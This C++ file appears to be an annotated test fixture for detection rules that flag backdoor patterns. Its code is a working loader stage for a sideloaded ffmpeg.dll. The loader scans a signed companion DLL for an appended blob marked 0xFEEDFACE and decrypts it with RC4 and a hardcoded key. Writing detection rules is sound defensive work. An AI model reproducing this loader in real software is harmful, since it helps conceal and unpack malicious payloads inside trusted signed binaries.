// ffmpeg.dll's part: find the blob appended to the signed companion DLL and decrypt it.
#include <algorithm>
#include <cstring>
#include <fstream>
#include <iterator>
#include <openssl/evp.h>
#include "iconic.hpp"

namespace dtapp {

namespace {
constexpr char kBlobKey[] = "3jB(2bsG#@c7";
constexpr std::array<std::uint8_t, 4> kMarker{0xFE, 0xED, 0xFA, 0xCE};
}

Loader::Loader(std::string companion_path) : path_(std::move(companion_path)) {}

Bytes Loader::decrypt(std::span<const std::uint8_t> blob) const {
  std::array<unsigned char, sizeof kBlobKey - 1> key{};
  std::copy(std::begin(kBlobKey), std::end(kBlobKey) - 1, key.begin());
  Bytes out(blob.size());
  EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
  int n = 0;
  // ruleid: backdoor-weak-cipher
  EVP_DecryptInit_ex(ctx, EVP_rc4(), nullptr, nullptr, nullptr);
  // ruleid: backdoor-short-key
  EVP_CIPHER_CTX_set_key_length(ctx, static_cast<int>(key.size()));
  // ruleid: backdoor-hardcoded-key
  EVP_DecryptInit_ex(ctx, nullptr, nullptr, key.data(), nullptr);
  EVP_DecryptUpdate(ctx, out.data(), &n, blob.data(), static_cast<int>(blob.size()));
  EVP_CIPHER_CTX_free(ctx);
  out.resize(static_cast<size_t>(n));
  return out;
}

std::optional<Bytes> Loader::extract_payload() const {
  std::ifstream in(path_, std::ios::binary);
  if (!in) return std::nullopt;
  Bytes image((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  for (size_t i = 0; i + kMarker.size() + 4 < image.size(); ++i) {
    // ok: backdoor-input-trigger
    if (std::memcmp(image.data() + i, kMarker.data(), kMarker.size()) == 0) {
      std::uint32_t len = 0;
      std::memcpy(&len, image.data() + i + 4, 4);
      if (i + 8 + len > image.size()) return std::nullopt;
      return decrypt(std::span<const std::uint8_t>(image).subspan(i + 8, len));
    }
  }
  return std::nullopt;
}

} // namespace dtapp
